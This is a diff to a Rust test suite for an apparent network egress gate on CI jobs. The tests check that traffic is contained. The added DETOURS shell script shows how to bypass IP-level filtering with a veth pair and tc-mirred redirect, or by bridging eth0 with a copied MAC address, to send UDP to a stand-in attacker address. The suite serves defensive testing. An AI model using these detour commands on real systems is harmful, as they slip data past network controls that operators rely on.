@@ -20,15 +20,18 @@ fn frames(gate: &Gate, twin: &str) -> Result<Job> {
     for technique in FRAMES {
         for address in ADDRESSES {
             gate.release(&format!("{technique}-{address}"))?;
-            script.push_str(&format!(
-                "python3 -S $ATTACKS/transport.py {technique} {address} 20000\n"
-            ));
+            script += &transport(technique, address, 20_000);
+            script.push('\n');
         }
     }
     script.push_str("ip neigh flush dev eth0\n");
     let mut job = gate.job();
     job.steps = vec![root_step("frames", &script), step("twin", twin)];
     Ok(job)
+}
+
+fn transport(technique: &str, address: &str, port: u16) -> String {
+    format!("python3 -S $ATTACKS/transport.py {technique} {address} {port}")
 }
 
 const TWIN: &str = "curl -sS -4 https://ok.test/ && curl -sS -6 https://ok.test/";
@@ -92,6 +95,58 @@ fn in_audit_mode_frames_pass_and_are_counted() -> Result<()> {
     Ok(())
 }
 
+/// A route by a device of the job's own making, which leads to the uplink below IP: by a redirection (tc-mirred(8)) and
+/// by a bridge that the uplink is put into. Packets carry a route and the uplink's Ethernet address then.
+const DETOURS: &str = "
+gateway=$(awk '$1 == \"192.0.2.1\" { print $4 }' /proc/net/arp)
+own=$(ip -o link show eth0 | sed 's/.*ether \\([^ ]*\\) .*/\\1/')
+ip link add v0 type veth peer name v1
+ip link set v0 address $own up; ip link set v1 up
+tc qdisc add dev v0 clsact
+tc filter add dev v0 egress protocol ip u32 match ip dst 203.0.113.66/32 action mirred egress redirect dev eth0
+ip route add 203.0.113.66 dev v0 src 192.0.2.10
+ip neigh replace 203.0.113.66 lladdr $gateway dev v0 nud permanent
+python3 -S $ATTACKS/transport.py udp-sendto 203.0.113.66 20001
+ip link add br0 type bridge
+ip link set br0 address $own up
+ip link set eth0 master br0
+ip route replace 203.0.113.66 dev br0 src 192.0.2.10
+ip neigh replace 203.0.113.66 lladdr $gateway dev br0 nud permanent
+python3 -S $ATTACKS/transport.py udp-connected 203.0.113.66 20002
+";
+
+/// Runs the detours; root of a job can make devices.
+fn detours(gate: &Gate) -> Result<()> {
+    for technique in ["udp-sendto", "udp-connected"] {
+        gate.release(&format!("{technique}-203.0.113.66"))?;
+    }
+    let mut job = gate.job();
+    job.steps =
+        vec![step("neighbour", "curl -sS -4 https://ok.test/"), root_step("detours", DETOURS)];
+    let result = gate.begin(&job)?.wait()?;
+    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
+    Ok(())
+}
+
+#[test]
+fn without_a_gate_detours_below_ip_reach_the_attacker() -> Result<()> {
+    let gate = Gate::without(World::builder())?;
+    detours(&gate)?;
+    wait_for("both to arrive", || {
+        let packets = gate.world().attacker().described_packets();
+        let has = |port| packets.iter().any(|packet| packet.port == Some(port));
+        (has(20_001) && has(20_002)).then_some(())
+    })?;
+    gate.assert_leaked()
+}
+
+#[test]
+fn detours_below_ip_are_stopped() -> Result<()> {
+    let gate = Gate::up(&policy("block", &["ok.test:443"]))?;
+    detours(&gate)?;
+    gate.assert_contained()
+}
+
 #[test]
 fn quic_to_an_address_that_is_open_for_tcp_needs_a_rule_of_its_own() -> Result<()> {
     // `v4.ok.test` may be called by QUIC, too; `ok.test` may not.
@@ -113,8 +168,8 @@ fn quic_to_an_address_that_is_open_for_tcp_needs_a_rule_of_its_own() -> Result<(
     let mut script =
         "for name in ok.test v4.ok.test v6.ok.test; do curl -sS https://$name/; done\n".to_owned();
     for address in closed {
-        script
-            .push_str(&format!("python3 -S $ATTACKS/transport.py udp-connected {address} 443 &\n"));
+        script += &transport("udp-connected", address, 443);
+        script.push_str(" &\n");
     }
     script.push_str("python3 -S $ATTACKS/transport.py udp-sendto 198.51.100.12 443 &\nwait\n");
     let mut job = gate.job();
